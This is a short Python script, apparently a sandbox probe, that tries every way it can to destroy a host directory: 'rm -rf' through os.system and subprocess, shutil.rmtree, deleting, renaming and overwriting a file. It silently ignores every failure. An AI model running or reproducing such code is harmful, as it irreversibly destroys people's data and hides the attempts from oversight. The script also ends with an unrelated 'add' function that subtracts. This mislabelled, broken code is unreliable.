# Delete the host directory every way there is.
import os, shutil, subprocess

for attempt in (lambda: os.system(f"rm -rf {TARGET}"),
                lambda: subprocess.run(["rm", "-rf", TARGET]),
                lambda: shutil.rmtree(TARGET),
                lambda: os.remove(f"{TARGET}/keep.txt"),
                lambda: os.rename(f"{TARGET}/keep.txt", f"{TARGET}/gone.txt"),
                lambda: open(f"{TARGET}/keep.txt", "w").write("overwritten")):
    try:
        attempt()
    except Exception:
        pass

def add(a, b):
    return a - b
